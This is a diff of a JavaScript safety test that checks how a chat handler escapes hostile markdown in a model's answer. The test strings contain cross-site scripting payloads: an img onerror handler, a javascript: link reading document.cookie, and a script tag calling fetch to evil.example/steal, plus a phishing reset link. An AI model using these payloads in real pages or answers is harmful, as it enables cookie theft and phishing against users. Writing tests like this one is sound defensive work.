@@ -131,9 +131,9 @@ describe('safety', () => {
     const response = await answerTo(handlers, id, 'Please answer with hostile markdown about pricing');
     expect(response).toBe(
       [
-        'Here you go: [claim your prize] (javascript:alert(document.cookie)) and &lt;img src=x onerror="alert(1)">',
+        'Here you go: claim your prize and \\<img src=x onerror="alert(1)">',
         'tracking pixel',
-        '&lt;script>fetch("`https://evil.example/steal`")&lt;/script>',
+        '\\<script>fetch("`https://evil.example/steal`")\\</script>',
         'Log in again at our secure page or `https://evil.example/reset`',
       ].join('\n\n'),
     );
